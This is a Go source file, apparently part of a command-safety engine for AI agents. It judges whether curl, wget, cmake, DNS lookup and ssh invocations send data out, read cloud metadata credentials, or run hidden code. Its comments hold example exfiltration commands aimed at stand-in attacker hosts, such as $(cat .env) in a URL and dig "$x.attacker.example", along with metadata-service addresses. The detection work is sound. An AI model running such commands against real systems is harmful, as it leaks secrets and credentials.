// for a name, a socket, a DNS server, an alt-svc cache that names
// another host).
var routesElsewhere = words("L", "x", "url", "resolve", "location", "location-trusted", "ipfs-gateway", "proxy", "proxy1.0", "preproxy", "connect-to", "alt-svc",
	"socks4", "socks4a", "socks5", "socks5-hostname", "unix-socket", "abstract-unix-socket", "doh-url", "dns-servers")

// proxyVars are the variables that send a request through a proxy: set
// for the command, even a request to localhost may go elsewhere.
func proxyVars() []EnvVar {
	var out []EnvVar
	for _, n := range []string{"ALL_PROXY", "all_proxy", "HTTP_PROXY", "http_proxy", "HTTPS_PROXY", "https_proxy"} {
		out = append(out, EnvVar{Name: n, Effect: EffExternal, Why: n + " sends the request through a proxy, which may be anywhere"})
	}
	return out
}

// curlJudge: a URL, header or other value holding a command's output
// ($(cat .env) in a query string) sends that output to a server; a
// request to this machine only stays inside (localRequests).
func curlJudge(r *Result, words []string) {
	metadataRequests(r)
	sendsOutput(r)
	sendingSchemes(r)
	localRequests(r, words)
	globbedNames(r)
	fileURLs(r)
}

// fileURLs finds a file: URL (file:///…) whose text is not the path curl
// reads: curl decodes its percent escapes (%2essh is .ssh) and expands its
// own globs ({ssh}, [a-z]) unless -g turns them off, so the protected
// paths are not checked against the file it reads.
func fileURLs(r *Result) {
	off := false
	for _, it := range r.Items {
		if it.OptionOf("globoff") {
			off = true
		}
	}
	for _, it := range r.Items {
		if it.Kind != KindOperand && (it.Kind != KindValue || it.Opt == nil || it.Opt.Name() != "--url") {
			continue
		}
		if len(it.Text) < 5 || !strings.EqualFold(it.Text[:5], "file:") {
			continue
		}
		if strings.IndexByte(it.Text, '%') >= 0 || !off && strings.ContainsAny(it.Text, "{[") || it.Computed {
			r.Effects |= EffComputed
			r.Findings = append(r.Findings, Finding{Effect: EffComputed, Word: it.Word,
				Why: "curl reads the file a file: URL names after decoding its percent escapes and expanding its globs: the file it reads is not the word"})
			return
		}
	}
}

// globbedNames finds curl's own URL globbing ({a,b}, [a-z]) with an
// output it names after the URL: -o's #1 is the text a glob matched,
// and -O names the file after the expanded URL, so the file written is
// not the word (curl "file:///x/{config}" -o .git/#1 writes .git/config).
// -g (--globoff) turns the globbing off.
func globbedNames(r *Result) {
	globbed, named, off := -1, false, false
	for _, it := range r.Items {
		switch {
		case it.OptionOf("globoff"):
			off = true
		case it.OptionOf("remote-name", "remote-name-all"):
			named = true
		case it.ValueOf("output"):
			named = named || strings.IndexByte(it.Text, '#') >= 0
		case it.Kind == KindOperand || it.Kind == KindValue && it.Opt != nil && it.Opt.Name() == "--url":
			if strings.ContainsAny(it.Text, "{[") && globbed < 0 {
				globbed = it.Word
			}
		}
	}
	if globbed >= 0 && named && !off {
		r.Effects |= EffComputed
		r.Findings = append(r.Findings, Finding{Effect: EffComputed, Word: globbed,
			Why: "curl expands the URL's own globs and names the file it writes after what they matched, which no word shows"})
	}
}

// sendingScheme reports a scheme other than the ones that fetch.
func sendingScheme(scheme string, computed bool) bool {
	switch strings.ToLower(scheme) {
	case "http", "https", "ftp", "ftps", "sftp", "scp", "file":
		return computed
	}
	return true
}

// sendingSchemes finds a URL whose scheme sends what curl reads from its
// input or puts in the URL (telnet://, gopher://, smtp://, dict://, …):
// only http(s), ftp(s), sftp, scp and file fetch by default.
func sendingSchemes(r *Result) {
	for _, it := range r.Items {
		if it.Kind != KindOperand && !(it.Kind == KindValue && it.Opt != nil && it.Opt.Name() == "--url") {
			continue // a proxy (-x socks5h://…) is no request's URL
		}
		scheme, _, ok := strings.Cut(it.Text, "://")
		if !ok || strings.ContainsAny(scheme, "/?#") || !sendingScheme(scheme, false) {
			continue
		}
		r.Effects |= EffExternal
		r.Findings = append(r.Findings, Finding{Effect: EffExternal, Word: it.Word,
			Why: "a " + scheme + ":// request sends what curl reads from its input or the URL holds"})
		return
	}
}

// sendsOutput finds a command substitution, or a variable's expansion, in
// a request's words: what the command prints, or what the variable holds
// (a token the agent inherits, a file read into it), leaves the machine
// with the request, whatever its method.
func sendsOutput(r *Result) {
	for _, it := range r.Items {
		if it.Kind == KindOption {
			continue
		}
		why := ""
		switch {
		case strings.Contains(it.Text, "$(") || strings.IndexByte(it.Text, '`') >= 0:
			why = whySendsOutput
		case it.Computed && strings.IndexByte(it.Text, '$') >= 0:
			why = whySendsValue
		}
		if why != "" {
			r.Effects |= EffExternal
			r.Findings = append(r.Findings, Finding{Effect: EffExternal, Word: it.Word, Why: why})
			return
		}
	}
}

const (
	whySendsOutput = "sends the output of a command to a server, in the URL or a header"
	whySendsValue  = "sends a variable's value to a server, in the URL or a header: it may hold a secret (a token in the environment, a file read into it)"
)

// localRequests takes back the data-sending effect of a request whose
// every URL is this machine's (curl -X POST localhost:3000/api, a dev
// server), unless it may be sent elsewhere: a redirect followed (-L), a
// proxy, a URL given by --url, or one known only at run time.
func localRequests(r *Result, words []string) {
	if r.Effects&EffExternal == 0 || len(r.Unknown) > 0 {
		return // an option the model does not know (--connect-to) may route it
	}
	for i, k := range r.Words {
		if k == KindUnknown && i > 0 || k == KindOption && !knownOption(r, i) {
			return
		}
	}
	urls := 0
	for _, it := range r.Items {
		switch {
		case it.Kind == KindOption && (it.Opt == nil || routesElsewhere[it.Opt.Short] || slices.ContainsFunc(it.Opt.Long, func(l string) bool { return routesElsewhere[l] })):
			// An option the model does not know (--connect-to,
			// --socks5, --preproxy) may route the request too.
			return
		case it.Kind == KindOperand:
			if it.Computed || !localURL(it.Text) {
				return
			}
			urls++
		}
	}
	if urls == 0 {
		return
	}
	kept := r.Findings[:0]
	r.Effects = 0
	for _, f := range r.Findings {
		if f.Effect == EffExternal && f.Why != whyNetworkPipe && f.Why != whySendsOutput {
			continue
		}
		kept = append(kept, f)
		r.Effects |= f.Effect
	}
	r.Findings = kept
}

// knownOption reports whether word i holds an option the model knows.
func knownOption(r *Result, i int) bool {
	for _, it := range r.Items {
		if it.Word == i && it.Kind == KindOption && it.Opt != nil {
			return true
		}
	}
	return false
}

// localURL reports a URL whose host is this machine.
// whyMetadata is why a request to a cloud's metadata service asks.
const whyMetadata = "requests the cloud's metadata service, which hands the machine's credentials (its role's keys, a managed identity's token) to whoever asks from it"

// metadataRequests finds a URL of a cloud's instance metadata service
// (169.254.169.254 in any spelling, metadata.google.internal, ECS's
// 169.254.170.2, Azure's 168.63.129.16): a GET of it reads credentials.
func metadataRequests(r *Result) {
	for _, it := range r.Items {
		if it.Kind != KindOperand && (it.Kind != KindValue || it.Opt == nil || it.Opt.Name() != "--url") {
			continue
		}
		if it.Computed || metadataHost(urlHost(it.Text)) {
			if !it.Computed {
				r.Effects |= EffExternal
				r.Findings = append(r.Findings, Finding{Effect: EffExternal, Word: it.Word, Why: whyMetadata})
				return
			}
		}
	}
}

// urlHost returns the host of a URL, or of a word that may be one (curl
// takes a bare host): no scheme, user, port or path.
func urlHost(u string) string {
	if i := strings.Index(u, "://"); i >= 0 {
		u = u[i+3:]
	}
	if i := strings.LastIndexByte(u[:strings.IndexAny(u+"/", "/?#")], '@'); i >= 0 {
		u = u[i+1:]
	}
	host := u
	if i := strings.IndexAny(host, "/?#"); i >= 0 {
		host = host[:i]
	}
	if strings.HasPrefix(host, "[") {
		if i := strings.IndexByte(host, ']'); i > 0 {
			return host[1:i]
		}
	} else if i := strings.LastIndexByte(host, ':'); i >= 0 {
		host = host[:i]
	}
	return strings.ToLower(host)
}

// metadataHost reports a host that is a cloud's metadata service: a
// link-local IPv4 address (169.254.0.0/16) in any form a resolver reads
// (dotted, one number, hex, octal: 2852039166, 0xa9fea9fe), a name of one,
// or AWS's IPv6 and Azure's wire server.
func metadataHost(h string) bool {
	h = strings.TrimSuffix(h, ".") // metadata.google.internal.
	switch h {
	case "metadata.google.internal", "metadata", "instance-data", "instance-data.ec2.internal", "fd00:ec2::254", "168.63.129.16", "100.100.100.200":
		return true
	}
	if ip, ok := ipv4Any(h); ok {
		return ip>>16 == 169<<8|254
	}
	return false
}

// ipv4Any reads an IPv4 address as inet_aton does: one to four numbers,
// each decimal, octal (0…) or hex (0x…), the last filling the rest.
func ipv4Any(h string) (uint32, bool) {
	parts := strings.Split(h, ".")
	if len(parts) == 0 || len(parts) > 4 {
		return 0, false
	}
	var v uint64
	for i, p := range parts {
		n, err := strconv.ParseUint(p, 0, 32)
		if err != nil || p == "" {
			return 0, false
		}
		if i < len(parts)-1 {
			if n > 255 {
				return 0, false
			}
			v = v<<8 | n
			continue
		}
		shift := uint(8 * (4 - len(parts)))
		if n >= 1<<(shift+8) && shift < 24 {
			return 0, false
		}
		v = v<<(shift+8) | n
	}
	return uint32(v), true
}

func localURL(u string) bool {
	switch urlHost(u) {
	case "localhost", "127.0.0.1", "::1", "0.0.0.0":
		return true
	}
	return false
}

// wgetModel is wget: a body, a posted file or a mutating method sends
// data; -e runs a .wgetrc command and --config reads a file of them.
func wgetModel() *Spec {
	return &Spec{Name: "wget", Syntax: GNU, Open: true, Options: join(list(
		val("", RoleData, "post-data", "body-data").does(EffExternal, whySends),
		val("", RolePath, "post-file", "body-file").does(EffExternal, whySends),
		val("", RoleData, "method").does(EffExternal, "sends a request with a method that changes things on the server").when(mutatingMethod),
		val("e", RoleData, "execute").does(EffComputed, "wget -e runs a .wgetrc command, which may set any option"),
		val("", RolePath, "config").does(EffComputed, "wget --config reads options from a file the engine does not see"),
		val("O", RolePath, "output-document"), val("o", RolePath, "output-file"), val("a", RolePath, "append-output"),
		val("P", RolePath, "directory-prefix"), val("T", RoleData, "timeout"),
		val("i", RolePath, "input-file").does(EffExternal, "requests every line of a file as a URL, which sends what the file holds to the hosts it names"),
		val("", RolePath, "load-cookies").does(EffExternal, "sends a file's contents to a server, as cookies"),
		val("t", RoleData, "tries"), val("U", RoleData, "user-agent"),
		val("", RoleProgram, "use-askpass").does(EffExec, "wget --use-askpass runs this program to ask for a user name and password"),
		val("", RolePath, "save-cookies", "warc-file", "warc-tempdir", "rejected-log", "ca-certificate",
			"ca-directory", "certificate", "crl-file", "private-key"),
		flag("q", "quiet"), flag("v", "verbose"), flag("c", "continue"), flag("N", "timestamping"),
		flag("r", "recursive"), flag("m", "mirror"), flag("k", "convert-links"), flag("p", "page-requisites"),
	), vals(RoleData, "header", "user", "password"), longs("no-check-certificate", "spider", "no-verbose"),
		// The rest of wget 1.21's --help: values that name no file.
		vals(RoleData, "accept-regex", "backups", "bind-address", "certificate-type", "ciphers", "compression",
			"connect-timeout", "cut-dirs", "default-page", "dns-timeout", "exclude-domains", "follow-tags",
			"ftp-password", "ftp-user", "http-password", "http-user", "ignore-tags", "limit-rate", "local-encoding",
			"pinnedpubkey", "prefer-family", "private-key-type", "progress", "proxy-password", "proxy-user",
			"read-timeout", "referer", "regex-type", "reject-regex", "remote-encoding", "report-speed",
			"restrict-file-names", "retry-on-http-error", "secure-protocol", "start-pos", "waitretry", "warc-dedup",
			"warc-header", "warc-max-size")),
		Operands: operands(RoleData), Judge: func(r *Result, _ []string) { metadataRequests(r); sendsOutput(r) }}
}

const whyNetworkPipe = "opens a connection to another machine and sends what it is given"

const whyCommandBuilder = "builds the command lines it runs from its arguments, files and input (parallel CMD ::: ARGS, entr -s CMD), which the engine does not read as commands"

// commandBuilder is a program that makes the commands it runs out of its
// arguments, files or input, as a shell would (GNU parallel, entr): every
// use is a program chosen at run time.
func commandBuilder(name string) *Spec {
	return &Spec{Name: name, Syntax: Syntax{Permute: true}, Open: true, Effect: EffComputed, Why: whyCommandBuilder}
}

// cmakeTools are the cmake -E commands that only print, compare or make
// directories; the others run a command (env, time, chdir), extract an
// archive (tar), or copy, link, rename and remove files, which the engine
// does not model there.
var cmakeTools = words("echo", "echo_append", "make_directory", "compare_files", "md5sum", "sha1sum",
	"sha224sum", "sha256sum", "sha384sum", "sha512sum", "capabilities", "environment", "true", "false", "sleep", "cat")

// cmakeModel is cmake: cmake -E CMD runs one of its tools, and -D sets
// cache variables, some of which name the programs a build runs.
func cmakeModel() *Spec {
	// -P runs a script of cmake code, -C one that fills the cache first
	// (execute_process runs programs): files it runs, its input for
	// /dev/stdin.
	opts := list(val("P", RolePath).runsFile().does(EffExec, "cmake -P runs a script of cmake code"),
		val("C", RolePath).runsFile().does(EffExec, "cmake -C runs a script of cmake code before it configures"))
	return &Spec{Name: "cmake", Syntax: Syntax{Permute: true}, Open: true, Options: opts, Judge: func(r *Result, words []string) {
		for i := 1; i < len(words); i++ {
			if !strings.HasPrefix(words[i], "-D") {
				continue
			}
			def, at := words[i][2:], i
			if def == "" && i+1 < len(words) {
				def, at = words[i+1], i+1
			}
			if why := CmakeDefine(def, r.WordComputed(words, at)); why != "" {
				r.Effects |= EffComputed
				r.Findings = append(r.Findings, Finding{Effect: EffComputed, Word: at, Why: why})
				return
			}
		}
		for i := 1; i+1 < len(words); i++ {
			if words[i] == "-E" && !cmakeTools[words[i+1]] {
				r.Effects |= EffComputed
				r.Findings = append(r.Findings, Finding{Effect: EffComputed, Word: i + 1,
					Why: "cmake -E " + words[i+1] + " runs a command, or copies, links, extracts or removes files, which the engine does not read there"})
				return
			}
		}
	}}
}

// cmakePrograms are the endings of the names of cmake's variables that
// name a program a build runs: compilers, linkers and archivers, their
// launchers and checkers (CMAKE_C_COMPILER_LAUNCHER, CMAKE_CXX_CLANG_TIDY),
// the build tool, an emulator.
var cmakePrograms = []string{"LAUNCHER", "_COMPILER", "_CLANG_TIDY", "_CPPLINT", "_CPPCHECK", "_INCLUDE_WHAT_YOU_USE",
	"_LINK_WHAT_YOU_USE_CHECK", "_EMULATOR", "_PROGRAM", "_LINKER", "_AR", "_RANLIB", "_NM", "_STRIP", "_OBJCOPY",
	"_OBJDUMP", "_READELF", "_ADDR2LINE", "_DLLTOOL", "_MT", "_COMPILER_AR", "_COMPILER_RANLIB"}

// cmakeRules are the endings of the names of cmake's variables whose
// value is the command line a build runs (CMAKE_C_COMPILE_OBJECT,
// CMAKE_CXX_LINK_EXECUTABLE, CMAKE_C_CREATE_SHARED_LIBRARY).
var cmakeRules = []string{"_COMPILE_OBJECT", "_LINK_EXECUTABLE", "_CREATE_SHARED_LIBRARY", "_CREATE_SHARED_MODULE",
	"_CREATE_STATIC_LIBRARY", "_ARCHIVE_CREATE", "_ARCHIVE_APPEND", "_ARCHIVE_FINISH"}

// cmakeCode reports the name of a cmake variable that names files or
// directories of cmake code it runs: the toolchain file, a project's
// includes (CMAKE_PROJECT_INCLUDE, CMAKE_PROJECT_app_INCLUDE_BEFORE,
// CMAKE_PROJECT_TOP_LEVEL_INCLUDES), the rules override, the directories
// modules load from.
func cmakeCode(name string) bool {
	switch {
	case name == "CMAKE_TOOLCHAIN_FILE" || name == "CMAKE_MODULE_PATH" || strings.HasPrefix(name, "CMAKE_USER_MAKE_RULES_OVERRIDE"):
		return true
	case strings.HasPrefix(name, "CMAKE_PROJECT_"):
		return strings.HasSuffix(name, "_INCLUDE") || strings.HasSuffix(name, "_INCLUDE_BEFORE") || strings.HasSuffix(name, "_INCLUDES")
	}
	return false
}

// hasSuffixIn reports whether s ends with one of ends.
func hasSuffixIn(s string, ends []string) bool {
	return slices.ContainsFunc(ends, func(e string) bool { return strings.HasSuffix(s, e) })
}

// cmakeVariableTools are the programs cmake's program variables commonly
// name beyond make's build tools: build tools, checkers, compilers of
// other languages.
var cmakeVariableTools = words("ninja", "samu", "clang-tidy", "cppcheck", "cpplint", "include-what-you-use", "iwyu",
	"ifx", "ifort", "flang", "flang-new", "gfortran", "nvcc", "clang-cl", "lld-link", "llvm-ar", "llvm-ranlib",
	"llvm-nm", "llvm-strip", "llvm-objcopy", "llvm-objdump", "llvm-readelf", "ld.lld", "ld.gold", "ld.bfd", "mold")

// CmakeDefine returns why cmake -D NAME[:TYPE]=VALUE (or NAME=VALUE in
// the environment cmake reads) makes a build run a program or code the
// command does not show, or "": a CMAKE_ variable that names a program
// must name a build tool in one word (a value with ';' is a list, which
// cmake runs as a command line: 'sh;-c;git push'); a rule is a command
// line; a file of cmake code must be the project's; compiler or linker
// flags must run nothing.
func CmakeDefine(def string, computed bool) string {
	name, value, ok := strings.Cut(def, "=")
	if !ok {
		return ""
	}
	name, _, _ = strings.Cut(name, ":")
	switch {
	case strings.ContainsAny(name, "$`"):
		return "cmake -D " + name + ": a variable's name known only at run time, which may be one that names a program"
	case !IsCmakeVariable(name):
		return "" // a project's own option, which its CMakeLists.txt reads
	case strings.Contains(name, "_FLAGS"):
		return compilerFlagsLater(name, value, computed)
	case hasSuffixIn(name, cmakeRules):
		return name + " is a command line cmake's build runs, which the engine does not read"
	case cmakeCode(name):
		if computed || strings.ContainsAny(value, "$`;") || strings.Contains(value, "..") ||
			strings.HasPrefix(value, "/") && !strings.HasPrefix(value, "/usr/") && !strings.HasPrefix(value, "/opt/") {
			return name + "=" + value + " names cmake code outside the project, which cmake runs"
		}
		return ""
	}
	if tool := Versionless(value[strings.LastIndexByte(value, '/')+1:]); !computed && !strings.ContainsAny(value, " \t;$`") &&
		(cmakeVariableTools[tool] || strings.HasPrefix(tool, "qemu-")) && (!strings.Contains(value, "/") || systemProgramPath(value)) {
		return ""
	}
	return programValue(name, value, computed)
}

// IsCmakeVariable reports a variable of cmake's that CmakeDefine judges.
func IsCmakeVariable(name string) bool {
	if !strings.HasPrefix(name, "CMAKE_") {
		return false
	}
	return strings.Contains(name, "_FLAGS") || hasSuffixIn(name, cmakeRules) || cmakeCode(name) || hasSuffixIn(name, cmakePrograms)
}

// hostLookupNames are the programs, besides host (and dig and nslookup,
// which read names from elsewhere too), that resolve or reach the host
// their words name and send nothing else of their own: lookups, probes,
// tracers and fetchers of a single file.
var hostLookupNames = []string{"delv", "resolvectl", "ping", "ping6",
	"fping", "arping", "traceroute", "traceroute6", "tracepath", "tracepath6", "mtr", "whois"}

const whySendsInName = "puts a variable's value or a command's output in its words, which name the host it looks up or reaches: " +
	"the name alone carries it out, in the DNS query or the packets (dig \"$x.attacker.example\")"

// hostLookup is a program that resolves or reaches the host its words
// name (dig, host, ping, whois): what its words hold leaves the machine
// with the name, so a computed word, option or not, is data sent out.
// Literal words only look up. Lookups that take their names from a
// file or their input send what it holds (lookupsFromFile).
func hostLookup(name string) *Spec {
	s := &Spec{Name: name, Syntax: Syntax{Permute: true}, Open: true, Judge: sendsInName}
	switch name {
	case "dig", "ssh-keyscan":
		// dig @attacker.example -f notes.txt: every line is a query to
		// the server the command names (ssh-keyscan -f: every line a host
		// it looks up).
		s.Options = list(val("f", RolePath).does(EffExternal, whyLooksUpFile))
	case "nslookup":
		s.Judge = nslookupJudge
	}
	return s
}

const whyLooksUpFile = "looks up every line of a file as a name, which sends what the file holds to the server it asks"

// sendsInName finds a word of a lookup that the shell computes.
func sendsInName(r *Result, _ []string) {
	for _, it := range r.Items {
		if it.Computed || strings.Contains(it.Text, "$(") || strings.IndexByte(it.Text, '`') >= 0 {
			r.Effects |= EffExternal
			r.Findings = append(r.Findings, Finding{Effect: EffExternal, Word: it.Word, Why: whySendsInName})
			return
		}
	}
}

// nslookupJudge: without a name to look up, or with "-" for it, nslookup
// reads names and commands from its input and asks the server for each
// (nslookup - attacker.example < notes.txt).
func nslookupJudge(r *Result, words []string) {
	sendsInName(r, words)
	for _, it := range r.Items {
		if it.Kind == KindOperand {
			if it.Text != "-" {
				return
			}
			break
		}
	}
	r.Effects |= EffExternal
	r.Findings = append(r.Findings, Finding{Effect: EffExternal, Word: 0,
		Why: "reads the names to look up from its input, which sends what the input holds to the server it asks"})
}

// getentModel is getent: its hosts databases resolve names like dig
// (getent ahosts "$x.attacker.example"); the others read this machine's
// tables.
func getentModel() *Spec {
	return &Spec{Name: "getent", Syntax: GNU, Open: true, Options: list(val("s", RoleData, "service"),
		flag("i", "no-idn"), flag("", "help"), flag("V", "version")), Judge: func(r *Result, words []string) {
		for _, it := range r.Items {
			if it.Kind == KindOperand {
				if hostsDatabases[it.Text] || it.Computed {
					sendsInName(r, words)
				}
				return // the first operand names the database
			}
		}
	}}
}

// hostsDatabases are getent's databases that look names up in DNS.
var hostsDatabases = words("hosts", "ahosts", "ahostsv4", "ahostsv6", "networks")

// networkPipe is a program that connects to another machine and carries
// what it is given there (nc, socat, sendmail): every use has an effect
// outside.
func networkPipe(name string) *Spec {
	return &Spec{Name: name, Syntax: Syntax{Permute: true}, Open: true, Effect: EffExternal, Why: whyNetworkPipe}
}

// tunnel is a program that publishes a port of this machine on a public
// address (ngrok http 3000, cloudflared tunnel --url, lt --port).
func tunnel(name string) *Spec {
	return &Spec{Name: name, Syntax: Syntax{Permute: true}, Open: true, OpenSubs: true, Effect: EffExternal,
		Why: "publishes a port of this machine on a public address: what listens there is reachable from the internet"}
}

// sshSpec is OpenSSH's ssh: destination, then a command run remotely.
// Options may follow the destination, but not the command.
func sshModel() *Spec {
	return &Spec{
		Name:   "ssh",
		Syntax: Syntax{Permute: true},
		Options: join(sshCommon(), list(
			val("B", RoleData), val("b", RoleData), val("D", RoleData), val("E", RolePath),
			val("e", RoleData), val("I", RoleData).does(EffExec, "ssh -I loads a PKCS#11 library"),
			val("L", RoleData), val("m", RoleData), val("O", RoleData), val("p", RoleData),
			val("Q", RoleData), val("R", RoleData), val("W", RoleData), val("w", RoleData),
		), shorts("46AaCfGgKkMNnqsTtVvXxYy")),
		Operands: []Operand{
			{Role: RoleRemote, Effect: EffExternal, Why: "ssh connects to another host"},
			{Role: RoleRemoteCode, Effect: EffExternal, Why: "ssh runs a command on another host"},
		},
	}
}

// scpSpec is OpenSSH's scp.
func scpModel() *Spec {
	return &Spec{
		Name:   "scp",
		Syntax: POSIX,
		Judge:  remoteTarget,
		Options: join(sshCommon(), list(
			val("D", RoleProgram).does(EffExec, "scp -D runs this sftp server program"),
			val("P", RoleData), val("X", RoleData),
		), shorts("346ABCOpqRrsTv")),
		Operands: operands(RoleRemote),
	}
}

// sftpSpec is OpenSSH's sftp.
func sftpModel() *Spec {
	return &Spec{
		Name:   "sftp",
		Syntax: POSIX,
		Options: join(sshCommon(), list(
			val("b", RolePath).runsFile().does(EffExec, "sftp -b runs commands from a batch file"),
			val("D", RoleProgram).does(EffExec, "sftp -D runs this sftp server program"),
			val("s", RoleProgram).does(EffExec, "sftp -s names the subsystem or server program"),
			val("B", RoleData), val("P", RoleData), val("R", RoleData), val("X", RoleData),
		), shorts("46AaCfNpqrv")),
		Operands: []Operand{{Role: RoleRemote, Effect: EffExternal, Why: "sftp connects to another host"}},
	}
}

// writesOutput reports a curl -w format that switches its output to a
// file (%output{FILE}, %output{>>FILE}), or one read from a file (@FILE)
// or known only at run time.
func writesOutput(v string, computed bool) bool {
	return computed || strings.Contains(strings.ToLower(v), "%output{") || strings.HasPrefix(v, "@")
}
